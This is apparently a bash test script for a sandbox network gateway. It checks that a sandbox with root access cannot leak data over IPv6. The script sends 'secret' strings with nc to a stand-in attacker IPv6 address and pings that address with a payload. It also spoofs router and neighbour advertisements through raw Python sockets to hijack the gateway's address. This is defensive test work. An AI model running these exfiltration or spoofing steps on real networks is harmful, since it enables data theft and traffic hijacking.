#!/bin/bash
# 30-ipv6: the sandbox's root turns IPv6 on, gives itself a global address,
# a neighbour entry for the gateway's MAC and a default route through it,
# and tries ICMPv6 echo, TCP, UDP, DNS to the gateway over IPv6, multicast
# to all nodes on the link, and NAT64's prefix. The attacker listens on an
# IPv6 address of its own. The gateway has no IPv6 address on the sandbox's
# link and forwards no IPv6: it queues every packet before conntrack,
# drops it, never answers, and writes one row per attempt (reason ipv6).
# Then the sandbox sends router advertisements with a prefix and claims the
# gateway's link-local address: neither the gateway nor another sandbox
# (IPv6 on, taking advertisements) takes an address or a route from it.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-ipv6
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

SB6=2001:db8:5::2
ATK6=2001:db8:66::66
cat > "$TB_DIR/policy.json" <<EOF
{"network": {"allowedDomains": ["a.test"]},
 "sluice": {"allowedCidrs": ["0.0.0.0/0"]}}
EOF
tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"
gwif=$(tb_gw_if a)
gwmac=$(ip -n "$TB_NETNS_GW" -o link show dev "$gwif" | sed -n 's/.*link\/ether \([0-9a-f:]*\) .*/\1/p')
tb_check "the gateway's MAC on the sandbox link ($gwmac)" [ -n "$gwmac" ]

# the far side: IPv6 on the attacker's link, routed by the internet
ip netns exec "$TB_NETNS_INET" sh -c '
	sysctl -qw net.ipv6.conf.all.disable_ipv6=0
	sysctl -qw net.ipv6.conf.atk0.disable_ipv6=0
	sysctl -qw net.ipv6.conf.all.forwarding=1'
ip netns exec "$TB_NETNS_ATK" sh -c '
	sysctl -qw net.ipv6.conf.all.disable_ipv6=0
	sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0'
ip -n "$TB_NETNS_INET" -6 addr add 2001:db8:66::1/64 dev atk0 nodad
ip -n "$TB_NETNS_ATK" -6 addr add "$ATK6/64" dev eth0 nodad
ip -n "$TB_NETNS_ATK" -6 route add default via 2001:db8:66::1

# the sandbox's root at work
tb_in a sh -c "
	sysctl -qw net.ipv6.conf.all.disable_ipv6=0
	sysctl -qw net.ipv6.conf.lo.disable_ipv6=0
	sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0
	ip -6 addr add $SB6/64 dev eth0 nodad
	ip -6 neigh replace fe80::1 lladdr $gwmac dev eth0 nud permanent
	ip -6 route add default via fe80::1 dev eth0" ||
	tb_fail "IPv6 set up in the sandbox"
snmp6() {
	ip netns exec "$TB_NETNS_GW" awk -v k="$1" '$1 == k { print $2 }' /proc/net/snmp6
}

out=$(tb_in a ping -6 -c 2 -i 0.2 -W 1 -p 5345435245543641 "$ATK6" 2>&1)
tb_assert_match "$out" "2 packets transmitted, 0 received" "ping -6 the attacker: no reply"
echo secret6-tcp | tb_in a nc -6 -w 2 "$ATK6" 443 >/dev/null 2>&1
tb_check "TCP over IPv6 to the attacker fails" [ $? != 0 ]
echo secret6-udp | tb_in a nc -6 -u -w 1 "$ATK6" 53 >/dev/null 2>&1
out=$(tb_in a dig +time=1 +tries=1 @fe80::1%eth0 a.test 2>&1)
tb_assert_match "$out" "timed out|no servers" "DNS to the gateway over IPv6: no answer"
out=$(tb_in a ping -6 -L -c 2 -i 0.2 -W 1 -I eth0 ff02::1 2>&1)	# -L: not our own echo
tb_assert_match "$out" "2 packets transmitted, 0 received" "ping -6 all nodes on the link: nobody answers"
out=$(tb_in a ping -6 -c 1 -W 1 64:ff9b::203.0.113.66 2>&1)
tb_assert_match "$out" "1 packets transmitted, 0 received" "NAT64's prefix: nothing"
sleep 0.5

tb_assert_eq "$(snmp6 Ip6OutForwDatagrams)" 0 "the gateway forwarded no IPv6 packet"
tb_assert_eq "$(snmp6 Ip6OutRequests)" 0 "and sent none of its own"
tb_assert_eq "$(tb_attacker_packet_count family=6 src=$SB6)" 0 \
    "the attacker received nothing from the sandbox's IPv6 address"
tb_assert_eq "$(tb_attacker_payload_bytes family=6 proto=tcp) $(tb_attacker_payload_bytes family=6 proto=udp)" \
    "0 0" "no TCP or UDP byte over IPv6 reached it"
tb_assert_eq "$(tb_attacker_packet_count family=4)" 0 "nor over IPv4"
tb_check "no secret on the far side" [ "$(tb_attacker_received | grep -ac secret6)" = 0 ]
tb_assert_eq "$(tb_upstream_queries)" 0 "the upstream DNS server heard nothing"

# router advertisements and neighbour tricks reach nobody else: sandbox a
# advertises itself as a router with a prefix and claims the gateway's
# link-local address, b (IPv6 on, taking advertisements) is on its own link
tb_check "sandbox b add" tb_sandbox_add b "$TB_DIR/policy.json"
tb_in b sh -c "sysctl -qw net.ipv6.conf.all.disable_ipv6=0
	sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0
	sysctl -qw net.ipv6.conf.eth0.accept_ra=2
	sysctl -qw net.ipv6.conf.eth0.autoconf=1"
sleep 2
tb_in a "$TB_PY" - <<'PY' || tb_fail "sandbox a sent its advertisements"
import socket, struct
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
idx = socket.if_nametoindex("eth0")
# RA: hop limit 64, router lifetime 1800 s, prefix 2001:db8:77::/64 (on-link, autonomous)
pio = struct.pack("!BBBBIII16s", 3, 4, 64, 0xc0, 86400, 14400, 0,
                  socket.inet_pton(socket.AF_INET6, "2001:db8:77::"))
ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + pio
# NA: override, claiming fe80::1 (the address sandboxes route IPv6 via)
na = struct.pack("!BBHI16s", 136, 0, 0, 0x20000000,
                 socket.inet_pton(socket.AF_INET6, "fe80::1"))
for _ in range(3):
    s.sendto(ra, ("ff02::1", 0, 0, idx))
    s.sendto(na, ("ff02::1", 0, 0, idx))
PY
sleep 1
tb_assert_eq "$(ip -n "$TB_NETNS_GW" -6 addr show | grep -c inet6)" 0 \
    "the gateway took no IPv6 address from the advertisement"
tb_assert_eq "$(ip -n "$TB_NETNS_GW" -6 route show | grep -c .)" 0 "nor a route"
tb_assert_eq "$(tb_in b ip -6 addr show dev eth0 | grep -c 2001:db8:77)" 0 \
    "sandbox b got no address from a's prefix"
tb_assert_eq "$(tb_in b ip -6 route show | grep -c default)" 0 "nor a default route"
tb_in b dig +short a.test >/dev/null
out=$(tb_in b curl -s --max-time 5 --cacert "$TB_CA" https://a.test/)
tb_assert_eq "$out" "hello from a.test" "b still reaches its allowed host"

# the positive control: the same attacker address answers from the internet
out=$(ip netns exec "$TB_NETNS_INET" ping -6 -c 1 -W 2 "$ATK6" 2>&1)
tb_assert_match "$out" "1 received" "(the attacker's IPv6 address is reachable from the internet side)"

sleep 0.5
# one row per attempt, each denied as ipv6, none allowed, nothing else
v6rows() {
	tb_sql "SELECT count(*) FROM flows WHERE sandbox = '${P}-a' AND verdict = 'deny'
	    AND reason = 'ipv6' AND $1"
}
tb_assert_eq "$(v6rows "proto = 'icmp6' AND dst_ip = '$ATK6'")" 1 \
    "one row for the two echoes to the attacker (icmp6, reason ipv6)"
tb_assert_eq "$(v6rows "proto = 'tcp' AND dst_ip = '$ATK6' AND dst_port = 443 AND src_ip = '$SB6'")" 1 \
    "one row for the TCP attempt, its retransmitted SYNs included"
tb_assert_eq "$(v6rows "proto = 'udp' AND dst_ip = '$ATK6' AND dst_port = 53")" 1 \
    "one row for the UDP datagram"
tb_assert_eq "$(v6rows "proto = 'udp' AND dst_ip = 'fe80::1' AND dst_port = 53")" 1 \
    "one row for DNS to the gateway's link-local address"
tb_assert_eq "$(v6rows "proto = 'icmp6' AND dst_ip = 'ff02::1'")" 1 \
    "one row for the all-nodes echo"
tb_assert_eq "$(v6rows "dst_ip = '64:ff9b::cb00:7142'")" 1 "one row for NAT64's prefix"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows WHERE sandbox = '${P}-a' AND (verdict != 'deny' OR reason != 'ipv6')")" 0 \
    "no other row of a's: nothing allowed"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM dns_queries WHERE sandbox = '${P}-a'")" 0 "no DNS row of a's either"
tb_done
